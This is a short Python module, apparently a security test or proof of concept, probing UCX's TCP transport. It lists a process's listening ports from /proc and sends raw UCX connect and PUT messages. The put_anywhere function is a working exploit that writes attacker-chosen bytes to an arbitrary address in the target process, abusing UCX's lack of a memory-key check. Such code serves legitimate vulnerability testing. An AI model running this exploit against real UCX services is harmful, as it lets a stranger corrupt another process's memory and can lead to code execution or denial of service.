"""What a stranger tries: which ports a process listens on, and UCX's own protocol without a key.

UCX's tcp transport stores what a PUT message carries at the address that it names; it compares no
memory key (uct_tcp_ep_handle_put_req).
"""

from __future__ import annotations

import socket
import struct
from contextlib import suppress
from pathlib import Path

LISTEN = "0A"
MAGIC = 0xCAFEBABE12345678
CONNECT_REQUEST, PUT_REQUEST = 32, 33
PAYLOAD = b"ANYWHERE"
PATIENCE_S = 1.0
HEAD = struct.Struct("<BI")


def listening(pid: int) -> set[tuple[str, int]]:
    """(IPv4 address, port) of every tcp socket that a process listens on; IPv6 ones by "::"."""
    inodes = set()
    for file in Path(f"/proc/{pid}/fd").iterdir():
        try:
            inodes.add(str(file.readlink()))
        except FileNotFoundError:
            continue  # closed meanwhile
    found = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == LISTEN and f"socket:[{fields[9]}]" in inodes:
                address, port = fields[1].split(":")
                host = socket.inet_ntoa(bytes.fromhex(address)[::-1]) if table == "tcp" else "::"
                found.add((host, int(port, 16)))
    return found


def put_anywhere(place: tuple[str, int], address: int) -> bytes:
    """Stores PAYLOAD at an address of the listening process, if that is UCX; its answers."""
    here = struct.pack("<H", socket.AF_INET) + struct.pack(">H", 40001)
    here += socket.inet_aton("127.0.0.1") + bytes(8)
    request = struct.pack("<IBQ", 1, 0, 77777) + here
    put = struct.pack("<QQI", address, len(PAYLOAD), 1)
    with suppress(OSError), dial(place) as connection:
        connection.sendall(struct.pack("<Q", MAGIC))
        connection.sendall(HEAD.pack(CONNECT_REQUEST, len(request)) + request)
        answer = connection.recv(4096)
        connection.sendall(HEAD.pack(PUT_REQUEST, len(put)) + put + PAYLOAD)
        return answer + connection.recv(4096)
    return b""


def say(place: tuple[str, int], data: bytes) -> bytes:
    """What is answered to some bytes; nothing if the other end hangs up."""
    with suppress(OSError), dial(place) as connection:
        connection.sendall(data)
        connection.shutdown(socket.SHUT_WR)
        return connection.recv(4096)
    return b""


def dial(place: tuple[str, int]) -> socket.socket:
    return socket.create_connection(place, PATIENCE_S)
